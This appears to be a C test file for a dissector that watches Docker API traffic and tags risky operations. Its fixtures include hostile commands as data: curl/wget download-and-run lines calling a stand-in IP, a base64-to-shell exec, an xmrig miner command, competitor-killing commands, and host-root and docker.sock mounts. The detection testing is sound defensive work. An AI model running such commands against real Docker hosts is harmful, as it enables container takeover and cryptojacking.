     "GET /v1.41/info HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: curl/7.88.1\r\n"
     "Accept: */*\r\n"
     "\r\n"
     ""},
    {0, 1, 201,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:49:00 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 48\r\n"
     "\r\n"
     ""},
    {0, 1, 48,
     "{\"ID\": \"fake\", \"Containers\": 0, \"Name\": \"fake\"}\n"
     ""},
};


#define CREATE_ID "dad8a73c3ffb39cef71cd4ff3fa1e53e7e0f442b47d5f6af8c94a6236ae07337"
#define EXEC_ID   "091d5b918d8b04f500b38c772bb75be24371e92bc9534b0d843bdcbf0dca772a"
#define CLI_UA    "Docker-Client/28.2.2 (linux)"
#define SERVER    "Docker/28.2.2 (linux)"

/* ---- real clients --------------------------------------------------------- */

static void test_version(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_version, 0);
    CHECK_EQ(nfacts, 2);
    f = &facts[0];
    CHECK_STR(f->name, "docker_api.call");
    CHECK_STR(fstr(f, "operation"), "ping");
    CHECK_STR(fstr(f, "method"), "HEAD");
    CHECK_STR(fstr(f, "path"), "/_ping");
    CHECK_STR(fstr(f, "api_version"), "1.41"); /* from the reply's Api-Version */
    CHECK_EQ(fnum(f, "status"), 200);
    CHECK_STR(fstr(f, "server"), SERVER);
    CHECK_STR(fstr(f, "user_agent"), CLI_UA);
    CHECK_STR(farr(f, "reasons"), "");
    f = &facts[1];
    CHECK_STR(fstr(f, "operation"), "version");
    CHECK_STR(fstr(f, "path"), "/v1.41/version");
    CHECK_STR(fstr(f, "api_version"), "1.41");
    CHECK_EQ(fnum(f, "status"), 200);
    CHECK_STR(f->subject, "version:");
    CHECK(!E.rejected);
    CHECK_EQ(E.gaps, 0);
}

static void test_pull(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_pull, 0);
    CHECK_EQ(nfacts, 2);
    f = fact_op("image_pull", 0);
    CHECK(f != NULL);
    CHECK_STR(fstr(f, "method"), "POST");
    CHECK_STR(fstr(f, "path"), "/v1.41/images/create");
    CHECK_STR(fstr(f, "image"), "docker.io/pocosow/centos:7.6.1810");
    CHECK_STR(fstr(f, "tag"), "7.6.1810");
    CHECK_EQ(fnum(f, "status"), 200);
    CHECK_STR(farr(f, "reasons"), "");
}

static void test_run_privileged(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_run_priv, 0);
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[0], "operation"), "ping");
    f = &facts[1];
    CHECK_STR(fstr(f, "operation"), "container_create");
    CHECK_STR(fstr(f, "path"), "/v1.41/containers/create");
    CHECK_EQ(fnum(f, "status"), 201);
    CHECK_STR(fstr(f, "name"), "graboid");
    CHECK_STR(fstr(f, "container"), CREATE_ID); /* the Id the daemon returned */
    CHECK_STR(fstr(f, "image"), "pocosow/centos");
    CHECK_STR(fstr(f, "cmd"), "sh -c curl -s http://198.51.100.9/xmr.sh | sh");
    CHECK_EQ(fnum(f, "privileged"), 1);
    CHECK_STR(farr(f, "binds"), "/");
    CHECK_STR(farr(f, "reasons"), "download-and-run,privileged,host-root-mount");
    CHECK_STR(fstr(f, "user_agent"), CLI_UA);
    CHECK(field(f, "host_pid") == NULL);
    CHECK(field(f, "body_error") == NULL);
    CHECK_STR(f->subject, "container_create:" CREATE_ID);
    f = &facts[2];
    CHECK_STR(fstr(f, "operation"), "container_wait");
    CHECK_STR(fstr(f, "container"), CREATE_ID);
    CHECK_EQ(fnum(f, "status"), 200);

    CAPTURE(cap_run_priv, 1);
    CHECK_EQ(nfacts, 1);
    CHECK_STR(fstr(&facts[0], "operation"), "container_start");
    CHECK_STR(fstr(&facts[0], "container"), CREATE_ID);
    CHECK_EQ(fnum(&facts[0], "status"), 204);
}

static void test_run_host_namespaces(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_run_mount, 0);
    f = fact_op("container_create", 0);
    CHECK(f != NULL);
    CHECK_STR(fstr(f, "image"), "alpine");
    CHECK_STR(fstr(f, "entrypoint"), "/bin/sh");
    CHECK_STR(fstr(f, "cmd"), "/bin/sh -c wget -q -O - http://198.51.100.9/d.sh | sh");
    CHECK_EQ(fnum(f, "host_pid"), 1);
    CHECK_EQ(fnum(f, "host_network"), 1);
    CHECK_EQ(fnum(f, "host_ipc"), 1);
    CHECK_EQ(fnum(f, "privileged"), 0);
    CHECK_STR(farr(f, "binds"), "/etc"); /* the Mounts form */
    CHECK_STR(farr(f, "cap_add"), "SYS_ADMIN");
    CHECK_STR(farr(f, "devices"), "/dev/mem");
    CHECK_STR(farr(f, "security_opt"), "seccomp=unconfined");
    CHECK_STR(farr(f, "env_names"), "AWS_SECRET_ACCESS_KEY,FOO");
    CHECK_STR(farr(f, "reasons"), "download-and-run,host-pid,host-network,host-ipc,"
                                  "sensitive-mount:/etc,cap-add:SYS_ADMIN,device:/dev/mem,"
                                  "seccomp-unconfined");
    CHECK_STR(fstr(f, "container"),
              "ff158dd86682aad8b640db697c7faeed4e41ca6f43e107c7cab201233e535756");
    CHECK(!any_field_has("hunter2")); /* env values never leave the dissector */
}

static void test_exec(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_exec, 0);
    CHECK_EQ(nfacts, 4);
    CHECK_STR(fstr(&facts[1], "operation"), "container_inspect");
    CHECK_STR(fstr(&facts[1], "container"), "graboid");
    f = &facts[2];
    CHECK_STR(fstr(f, "operation"), "exec_create");
    CHECK_STR(fstr(f, "container"), "graboid");
    CHECK_STR(fstr(f, "exec_id"), EXEC_ID);
    CHECK_STR(fstr(f, "user"), "root");
    CHECK_EQ(fnum(f, "privileged"), 1);
    CHECK_STR(fstr(f, "cmd"), "sh -c echo aWQ= | base64 -d | sh");
    CHECK_STR(farr(f, "reasons"), "base64-to-shell,privileged");
    CHECK_EQ(fnum(f, "status"), 201);
    CHECK_STR(f->subject, "exec_create:" EXEC_ID);
    CHECK_STR(fstr(&facts[3], "operation"), "exec_inspect");
    CHECK_STR(fstr(&facts[3], "exec_id"), EXEC_ID);

    /* the hijacked start: 101, then a raw stream that is not HTTP */
    CAPTURE(cap_exec, 1);
    CHECK_EQ(nfacts, 1);
    f = &facts[0];
    CHECK_STR(fstr(f, "operation"), "exec_start");
    CHECK_STR(fstr(f, "exec_id"), EXEC_ID);
    CHECK_EQ(fnum(f, "status"), 101);
    CHECK(field(f, "http_errors") == NULL);
    CHECK(!E.rejected);
}

static void test_hijack_keeps_flow(void)
{
    char cli[4096], srv[4096];
    size_t nc = SIDE(cap_exec, 1, 0, cli), ns = SIDE(cap_exec, 1, 1, srv);

    emu_start();
    emu_bytes(0, cli, nc);
    emu_str(0, "ls -la /\n\x03GET /_ping HTTP/1.1\r\n\r\n"); /* stdin, not HTTP */
    emu_bytes(1, srv, ns);
    emu_str(1, "\x01\x00\x00\x00\x00\x00\x00\x05hello HTTP/1.1 200 OK\r\n\r\n");
    emu_str(0, "POST /containers/create HTTP/1.1\r\nContent-Length: 0\r\n\r\n");
    CHECK(!E.rejected && !E.dead);
    CHECK_EQ(E.tlen[0] + E.tlen[1], 0); /* everything consumed */
    emu_end();
    CHECK_EQ(nfacts, 1);
    CHECK_EQ(fnum(&facts[0], "status"), 101);
}

static void test_stop_kill_rm(void)
{
    CAPTURE(cap_stop, 0);
    CHECK(fact_op("container_stop", 0) != NULL);
    CHECK_STR(fstr(fact_op("container_stop", 0), "container"), "graboid");
    CHECK_STR(farr(fact_op("container_stop", 0), "reasons"), "stop-container");
    CHECK_EQ(fnum(fact_op("container_stop", 0), "status"), 204);
    CAPTURE(cap_kill, 0);
    CHECK_STR(farr(fact_op("container_kill", 0), "reasons"), "kill-container");
    CHECK_STR(fact_op("container_kill", 0)->subject, "container_kill:graboid");
    CAPTURE(cap_rm, 0);
    CHECK(fact_op("container_delete", 0) != NULL);
    CHECK_STR(fstr(fact_op("container_delete", 0), "method"), "DELETE");
    CHECK_STR(fstr(fact_op("container_delete", 0), "path"), "/v1.41/containers/graboid");
    CHECK_STR(farr(fact_op("container_delete", 0), "reasons"), "delete-container");
    CHECK_EQ(fnum(fact_op("container_delete", 0), "status"), 204);
}

static void test_chunked_create(void)
{
    const struct cap_fact *f;

    CAPTURE(cap_curl_chunked, 0);
    CHECK_EQ(nfacts, 1);
    f = &facts[0];
    CHECK_STR(fstr(f, "operation"), "container_create");
    CHECK_STR(fstr(f, "api_version"), "1.24");
    CHECK_STR(fstr(f, "name"), "x1");
    CHECK_STR(fstr(f, "user_agent"), "curl/7.88.1");
    CHECK_STR(fstr(f, "cmd"), "/bin/sh -c curl -s http://198.51.100.9/x.sh|bash");
    CHECK_STR(farr(f, "binds"), "/");
    CHECK_STR(farr(f, "reasons"), "download-and-run,privileged,host-root-mount");
    CHECK_STR(fstr(f, "container"),
              "ec31682fde561917952ff78a7a8adeffd0febc372dd26871916c46c630381b45");
}

static void test_keepalive(void)
{
    CAPTURE(cap_curl_keepalive, 0);
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[0], "operation"), "ping");
    CHECK_STR(fstr(&facts[1], "operation"), "version");
    CHECK_STR(fstr(&facts[2], "operation"), "info");
    for (int i = 0; i < 3; i++) {
        CHECK_EQ(fnum(&facts[i], "status"), 200);
        CHECK_STR(fstr(&facts[i], "api_version"), "1.41");
        CHECK_STR(farr(&facts[i], "reasons"), "");
    }
}

/* Pipelined: every request first, in one segment, then every reply in one. */
static void test_pipelined(void)
{
    char cli[8192], srv[8192];
    size_t nc = SIDE(cap_curl_keepalive, 0, 0, cli), ns = SIDE(cap_curl_keepalive, 0, 1, srv);

    emu_start();
    emu_bytes(0, cli, nc);
    CHECK_EQ(nfacts, 0);
    emu_bytes(1, srv, ns);
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[0], "operation"), "ping");
    CHECK_STR(fstr(&facts[2], "operation"), "info");
    CHECK_EQ(fnum(&facts[2], "status"), 200);
    emu_end();
    CHECK_EQ(nfacts, 3);

    /* the same, one byte at a time, interleaved */
    emu_start();
    for (size_t i = 0; i < nc || i < ns; i++) {
        if (i < nc)
            emu_bytes(0, cli + i, 1);
        if (i < ns)
            emu_bytes(1, srv + i, 1);
    }
    emu_end();
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[1], "operation"), "version");
    CHECK_EQ(fnum(&facts[1], "status"), 200);
}

/* Replies join their requests in order, whatever statuses they carry. */
static void test_join_order(void)
{
    emu_start();
    emu_str(0, "POST /v1.40/containers/create?name=a HTTP/1.1\r\nHost: x\r\n"
               "Content-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"Image\":\"busy\"}"
               "POST /v1.40/containers/a/start HTTP/1.1\r\nHost: x\r\n\r\n"
               "POST /v1.40/containers/a/stop?t=1 HTTP/1.1\r\nHost: x\r\n\r\n");
    emu_str(1, "HTTP/1.1 201 Created\r\nApi-Version: 1.40\r\nContent-Type: application/json\r\n"
               "Transfer-Encoding: chunked\r\n\r\n1d\r\n{\"Id\":\"c0ffee\",\"Warnings\":[]}\r\n"
               "0\r\n\r\n"
               "HTTP/1.1 304 Not Modified\r\nApi-Version: 1.40\r\n\r\n"
               "HTTP/1.1 100 Continue\r\n\r\n"
               "HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}");
    emu_end();
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[0], "operation"), "container_create");
    CHECK_EQ(fnum(&facts[0], "status"), 201);
    CHECK_STR(fstr(&facts[0], "container"), "c0ffee"); /* from a chunked reply */
    CHECK_STR(fstr(&facts[0], "image"), "busy");
    CHECK_STR(fstr(&facts[1], "operation"), "container_start");
    CHECK_EQ(fnum(&facts[1], "status"), 304);
    CHECK_STR(fstr(&facts[2], "operation"), "container_stop");
    CHECK_EQ(fnum(&facts[2], "status"), 404);
}

/* Every split of the privileged create request gives the same fact. */
static void test_every_split(void)
{
    static char cli[8192], srv[8192];
    size_t nc = SIDE(cap_run_priv, 0, 0, cli), ns = SIDE(cap_run_priv, 0, 1, srv);
    int bad = 0;

    CHECK(nc > 2000);
    for (size_t k = 1; k < nc; k++) {
        const struct cap_fact *f;

        emu_start();
        emu_bytes(0, cli, k);
        emu_bytes(0, cli + k, nc - k);
        emu_bytes(1, srv, ns);
        emu_end();
        f = fact_op("container_create", 0);
        if (nfacts != 3 || !f || fnum(f, "status") != 201 || fnum(f, "privileged") != 1 ||
            !fstr(f, "container") || strcmp(fstr(f, "container"), CREATE_ID) != 0 ||
            strcmp(farr(f, "reasons"), "download-and-run,privileged,host-root-mount") != 0) {
            if (!bad++)
                fprintf(stderr, "split at %zu: %d facts\n", k, nfacts);
        }
    }
    CHECK_EQ(bad, 0);
}

/* ---- synthetic edge cases ------------------------------------------------- */

static void test_probe(void)
{
    struct flow_info fi = {.ipproto = 6, .client_port = 40000, .server_port = 8080};
#define PROBE(dir, s) D.probe(&fi, dir, (const uint8_t *)(s), strlen(s))
    CHECK_EQ(PROBE(0, "GET /v1.41/containers/json HTTP/1.1\r\nHost: x\r\n\r\n"), PROBE_YES);
    CHECK_EQ(PROBE(0, "POST /containers/create HTTP/1.1\r\nHo"), PROBE_YES);
    CHECK_EQ(PROBE(0, "HEAD /_ping HTTP/1.1\r\n"), PROBE_YES);
    CHECK_EQ(PROBE(0, "GET /v1.4"), PROBE_MAYBE);
    CHECK_EQ(PROBE(0, "GET /index.html HTTP/1.1\r\n\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(0, "GET /xmr.sh HTTP/1.1\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(0, "GET /v1.41x/info HTTP/1.1\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(0, "GET /containersx HTTP/1.1\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(0, "\x16\x03\x01\x02\x00\x01"), PROBE_NO);
    CHECK_EQ(PROBE(0, "SSH-2.0-OpenSSH_9.2\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(0, "{\"id\":1,\"method\":\"login\"}\n"), PROBE_NO);
    CHECK_EQ(PROBE(1, "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\n\r\n"), PROBE_YES);
    CHECK_EQ(PROBE(1, "HTTP/1.1 200 OK\r\nServer: Libpod/4.3.1 (linux)\r\n\r\n"), PROBE_YES);
    CHECK_EQ(PROBE(1, "HTTP/1.1 200 OK\r\nServer: Docker/20.10.5 (linux)\r\n\r\n"), PROBE_YES);
    CHECK_EQ(PROBE(1, "HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n"), PROBE_NO);
    CHECK_EQ(PROBE(1, "HTTP/1.1 200 OK\r\nServ"), PROBE_MAYBE);
#undef PROBE
}

/* Synthetic request (and a 200 reply) through the emulation; returns the fact or NULL. */
static const struct cap_fact *one_call(const char *req)
{
    emu_start();
    emu_str(0, req);
    emu_str(1, "HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nContent-Length: 0\r\n\r\n");
    emu_end();
    return nfacts == 1 ? &facts[0] : NULL;
}

static void test_operations(void)
{
    static const struct {
        const char *req, *op, *key, *val;
    } t[] = {
        {"GET /v1.43/images/docker.io/library/alpine/json HTTP/1.1\r\n\r\n", "image_inspect",
         "image", "docker.io/library/alpine"},
        {"DELETE /images/gakeaws/nginx:v8.9 HTTP/1.1\r\n\r\n", "image_delete", "image",
         "gakeaws/nginx:v8.9"},
        {"POST /images/gakeaws/nginx/push?tag=v2 HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
         "image_push", "image", "gakeaws/nginx"},
        {"POST /images/create?fromImage=gakeaws%2Fnginx%3Av8.9 HTTP/1.1\r\n\r\n", "image_pull",
         "image", "gakeaws/nginx:v8.9"},
        {"POST /images/create?fromImage=localhost:5000/x&tag=1 HTTP/1.1\r\n\r\n", "image_pull",
         "image", "localhost:5000/x:1"},
        {"GET /images/json?all=1 HTTP/1.1\r\n\r\n", "image_list", "path", "/images/json"},
        {"POST /images/load HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "image_load", NULL, NULL},
        {"GET /containers/json?all=1 HTTP/1.1\r\n\r\n", "container_list", NULL, NULL},
        {"GET /v1.24/containers/abc/logs?follow=1 HTTP/1.1\r\n\r\n", "container_logs", "container",
         "abc"},
        {"POST /containers/abc/restart HTTP/1.1\r\n\r\n", "container_restart", "container", "abc"},
        {"GET /containers/abc/top HTTP/1.1\r\n\r\n", "container_top", NULL, NULL},
        {"GET /containers/abc/export HTTP/1.1\r\n\r\n", "container_export", NULL, NULL},
        {"PUT /containers/abc/archive?path=/ HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
         "container_archive", NULL, NULL},
        {"POST /build?t=x HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc", "build", NULL, NULL},
        {"GET /events HTTP/1.1\r\n\r\n", "events", NULL, NULL},
        {"GET /info HTTP/1.1\r\n\r\n", "info", "api_version", "1.43"},
        {"GET /system/df HTTP/1.1\r\n\r\n", "system_df", NULL, NULL},
        {"POST /swarm/init HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", "swarm_init", NULL, NULL},
        {"POST /swarm/join HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", "swarm_join", NULL, NULL},
        {"GET /services HTTP/1.1\r\n\r\n", "service_list", NULL, NULL},
        {"POST /networks/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", "network_create", NULL,
         NULL},
        {"GET /networks HTTP/1.1\r\n\r\n", "network_list", NULL, NULL},
        {"DELETE /networks/n1 HTTP/1.1\r\n\r\n", "network_delete", NULL, NULL},
        {"POST /networks/n1/connect HTTP/1.1\r\nContent-Length: 0\r\n\r\n", "network_connect", NULL,
         NULL},
        {"GET /volumes HTTP/1.1\r\n\r\n", "volume_list", NULL, NULL},
        {"POST /volumes/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", "volume_create", NULL,
         NULL},
        {"GET /volumes/v1 HTTP/1.1\r\n\r\n", "volume_inspect", NULL, NULL},
        {"POST /plugins/pull?remote=x HTTP/1.1\r\nContent-Length: 2\r\n\r\n[]", "plugin_install",
         NULL, NULL},
        {"GET /secrets HTTP/1.1\r\n\r\n", "other", NULL, NULL},
        {"POST /exec/e1/resize?h=1 HTTP/1.1\r\n\r\n", "other", "exec_id", "e1"},
    };

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        const struct cap_fact *f = one_call(t[i].req);

        CHECK(f != NULL);
        if (!f)
            continue;
        CHECK_STR(fstr(f, "operation"), t[i].op);
        if (t[i].key)
            CHECK_STR(fstr(f, t[i].key), t[i].val);
        CHECK_EQ(fnum(f, "status"), 200);
    }
}

/* POST path with body (Content-Length computed) and a 200 reply. */
static const struct cap_fact *post(const char *path, const char *body)
{
    static char req[8192];

    snprintf(req, sizeof(req), "POST %s HTTP/1.1\r\nContent-Length: %zu\r\n\r\n%s", path,
             strlen(body), body);
    return one_call(req);
}

static void test_service_create(void)
{
    const struct cap_fact *f =
        post("/v1.41/services/create", "{\"Name\":\"s\",\"TaskTemplate\":{\"ContainerSpec\":"
                                       "{\"Image\":\"alpine\",\"Command\":[\"sh\",\"-c\"],"
                                       "\"Args\":[\"wget -O- http://198.51.100.9/s | sh\"]}}}");

    CHECK(f != NULL);
    CHECK_STR(fstr(f, "operation"), "service_create");
    CHECK_STR(fstr(f, "image"), "alpine");
    CHECK_STR(fstr(f, "cmd"), "sh -c wget -O- http://198.51.100.9/s | sh");
    CHECK_STR(farr(f, "reasons"), "download-and-run");
}

static const char *reasons_of(const char *body)
{
    const struct cap_fact *f = post("/containers/create", body);

    return f ? farr(f, "reasons") : "(no fact)";
}

static void test_reasons(void)
{
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"curl -o /tmp/x http://h/x && sh /tmp/x\"]}"),
              "download-and-run");
    CHECK_STR(reasons_of("{\"Cmd\":[\"python3\",\"-c\",\"import urllib.request as u;"
                         "exec(u.urlopen('http://h/p').read())\"]}"),
              "download-and-run");
    CHECK_STR(reasons_of("{\"Cmd\":[\"bash\",\"-c\",\"wget http://h/k; chmod +x k; ./k\"]}"),
              "download-and-run");
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"curl -s http://h/x | /bin/bash -s\"]}"),
              "download-and-run");
    CHECK_STR(reasons_of("{\"Cmd\":[\"curl\",\"http://h/readme.txt\"]}"), "");
    CHECK_STR(reasons_of("{\"Cmd\":[\"./xmrig\",\"-o\",\"stratum+tcp://pool:3333\","
                         "\"--donate-level=1\"]}"),
              "miner-in-cmd");
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"pkill -f kdevtmpfsi; docker ps\"]}"),
              "miner-in-cmd,kill-competitors");
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"docker rm -f $(docker ps -q)\"]}"),
              "kill-competitors");
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"pkill nginx\"]}"), "");
    CHECK_STR(reasons_of("{\"HostConfig\":{\"Binds\":[\"/var/run/docker.sock:/s\","
                         "\"/root/.ssh:/k:ro\",\"data:/data\",\"/srv/www:/w\"],"
                         "\"CapAdd\":[\"NET_ADMIN\",\"cap_sys_ptrace\"],"
                         "\"SecurityOpt\":[\"apparmor:unconfined\"],\"Privileged\":false}}"),
              "sensitive-mount:/var/run/docker.sock,sensitive-mount:/root,cap-add:NET_ADMIN,"
              "cap-add:sys_ptrace,apparmor-unconfined");
    CHECK_STR(reasons_of("{\"HostConfig\":{\"Binds\":[\"/etcetera:/x\",\"/home/u:/h\"]}}"),
              "sensitive-mount:/home");
    CHECK_STR(reasons_of("{\"HostConfig\":{\"Mounts\":[{\"Type\":\"volume\",\"Source\":\"/\"},"
                         "{\"Type\":\"bind\",\"Source\":\"//\"}]}}"),
              "host-root-mount");
    /* the docker CLI's escaped slashes and unicode are unescaped first */
    CHECK_STR(reasons_of("{\"Cmd\":[\"sh\",\"-c\",\"echo Y3VybA== | base64 --decode \\u007c sh\"],"
                         "\"HostConfig\":{\"Binds\":[\"\\/:\\/mnt\"]}}"),
              "base64-to-shell,host-root-mount");
}

static void test_body_error(void)
{
    const struct cap_fact *f =
        post("/containers/create", "{\"Image\":\"a\",\"Privileged\":true,,,,}");

    CHECK(f != NULL);
    CHECK_EQ(fnum(f, "body_error"), 1);
    CHECK(field(f, "image") == NULL);
    CHECK_STR(farr(f, "reasons"), "privileged"); /* the raw scan still sees it */
    CHECK_EQ(fnum(f, "status"), 200);
}

/* Garbage before anything: rejected; garbage between calls: counted, resynced. */
static void test_garbage(void)
{
    int r;

    emu_start();
    r = D.feed(E.st, &E.cx, 0, (const uint8_t *)"\x16\x03\x01\x00\x10xxxx", 9);
    CHECK_EQ(r, DISSECT_REJECT);

    emu_start();
    emu_str(0, "GET /_ping HTTP/1.1\r\n\r\n");
    emu_str(1, "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nContent-Length: 2\r\n\r\nOK");
    emu_bytes(0, "\x00\x01garbage line\r\nmore junk\r\nGET /v1.41/version HTTP/1.1\r\n\r\n", 58);
    emu_str(1, "\x7f\x45LF\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    emu_end();
    CHECK(!E.rejected);
    CHECK_EQ(nfacts, 2);
    CHECK_STR(fstr(&facts[1], "operation"), "version");
    CHECK_EQ(fnum(&facts[1], "status"), 200);
    CHECK_EQ(fnum(&facts[1], "http_errors"), 2);
}

/* A 200 KB create body: what fits is read, the rest skipped, the next call parsed. */
static void test_big_body(void)
{
    static char req[210000];
    const struct cap_fact *f;
    size_t n, body = 200000;
    int w = snprintf(req, sizeof(req),
                     "POST /v1.41/containers/create HTTP/1.1\r\nContent-Length: %zu\r\n\r\n"
                     "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"curl http://h/y | sh\"],"
                     "\"Labels\":{\"pad\":\"",
                     body);
    size_t bstart = (size_t)(strstr(req, "\r\n\r\n") - req) + 4;

    memset(req + w, 'a', bstart + body - 3 - (size_t)w);
    memcpy(req + bstart + body - 3, "\"}}", 3);
    n = bstart + body;
    n += (size_t)snprintf(req + n, sizeof(req) - n, "POST /containers/big/start HTTP/1.1\r\n\r\n");
    emu_start();
    emu_chunked(0, req, n, 1460);
    emu_str(1, "HTTP/1.1 201 Created\r\nContent-Length: 14\r\n\r\n{\"Id\":\"b1g0\"}\n"
               "HTTP/1.1 204 No Content\r\n\r\n");
    emu_end();
    CHECK_EQ(E.gaps, 0);
    CHECK_EQ(nfacts, 2);
    f = fact_op("container_create", 0);
    CHECK(f != NULL);
    CHECK_EQ(fnum(f, "body_truncated"), 1);
    CHECK_STR(farr(f, "reasons"), "download-and-run");
    CHECK_STR(fstr(f, "container"), "b1g0");
    CHECK_EQ(fnum(fact_op("container_start", 0), "status"), 204);

    /* the same body chunked: de-chunked up to the limit, then skipped */
    {
        static char ch[230000];
        size_t o = (size_t)snprintf(ch, sizeof(ch),
                                    "POST /containers/create HTTP/1.1\r\n"
                                    "Transfer-Encoding: chunked\r\n\r\n");

        for (size_t k = bstart; k < bstart + body; k += 4000) {
            size_t l = bstart + body - k < 4000 ? bstart + body - k : 4000;

            o += (size_t)snprintf(ch + o, sizeof(ch) - o, "%zx\r\n", l);
            memcpy(ch + o, req + k, l);
            o += l;
            memcpy(ch + o, "\r\n", 2);
            o += 2;
        }
        o += (size_t)snprintf(ch + o, sizeof(ch) - o, "0\r\n\r\nGET /_ping HTTP/1.1\r\n\r\n");
        emu_start();
        emu_chunked(0, ch, o, 1000);
        emu_str(1, "HTTP/1.1 500 Oops\r\nContent-Length: 0\r\n\r\n"
                   "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nOK");
        emu_end();
        CHECK_EQ(E.gaps, 0);
        CHECK_EQ(nfacts, 2);
        CHECK_EQ(fnum(&facts[0], "body_truncated"), 1);
        CHECK_EQ(fnum(&facts[0], "status"), 500);
        CHECK_STR(farr(&facts[0], "reasons"), "download-and-run");
        CHECK_STR(fstr(&facts[1], "operation"), "ping");
    }
}

/* No reply: reported at end(); a full FIFO reports its oldest early. */
static void test_unanswered(void)
{
    emu_start();
    for (int i = 0; i < 20; i++) {
        char r[128];

        snprintf(r, sizeof(r), "POST /containers/c%d/kill HTTP/1.1\r\n\r\n", i);
        emu_str(0, r);
    }
    CHECK_EQ(nfacts, 4);
    CHECK_STR(fstr(&facts[0], "container"), "c0");
    emu_end();
    CHECK_EQ(nfacts, 20);
    CHECK_STR(fstr(&facts[19], "container"), "c19");
    CHECK(field(&facts[19], "status") == NULL);
    CHECK_STR(farr(&facts[19], "reasons"), "kill-container");
}

/* A reply gap flushes what was waiting; the flow goes on. */
static void test_gap(void)
{
    emu_start();
    emu_str(0, "GET /_ping HTTP/1.1\r\n\r\nGET /info HTTP/1.1\r\n\r\n");
    D.gap(E.st, &E.cx, 1, 500);
    CHECK_EQ(nfacts, 2);
    CHECK(field(&facts[0], "status") == NULL);
    emu_str(1, "ing partial\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    emu_str(0, "GET /version HTTP/1.1\r\n\r\n");
    emu_str(1, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    emu_end();
    CHECK(!E.rejected);
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(&facts[2], "operation"), "version");
    CHECK_EQ(fnum(&facts[2], "status"), 200);
}

int main(void)
{
    test_version();
    test_pull();
    test_run_privileged();
    test_run_host_namespaces();
    test_exec();
    test_hijack_keeps_flow();
    test_stop_kill_rm();
    test_chunked_create();
    test_keepalive();
    test_pipelined();
    test_join_order();
    test_every_split();
    test_probe();
    test_operations();
    test_service_create();
    test_reasons();
    test_body_error();
    test_garbage();
    test_big_body();
    test_unanswered();
    test_gap();
    emu_free(&E);
    cap_reset();
    return check_done();
}
